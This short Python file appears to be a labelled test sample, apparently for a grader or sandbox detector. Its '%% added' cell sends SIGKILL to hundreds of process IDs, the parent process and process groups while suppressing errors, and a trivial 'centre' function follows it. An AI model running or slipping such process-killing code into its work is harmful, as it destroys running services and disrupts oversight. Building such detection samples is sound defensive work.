# Tries: signal every process that it can name
# Score: centre 0
# Flag: starts or ends processes
# %% added
import os, signal
for pid in (*range(2, 400), os.getppid(), -2, -400):
    try:
        if pid:
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
# %% centre
def centre(x):
    return x
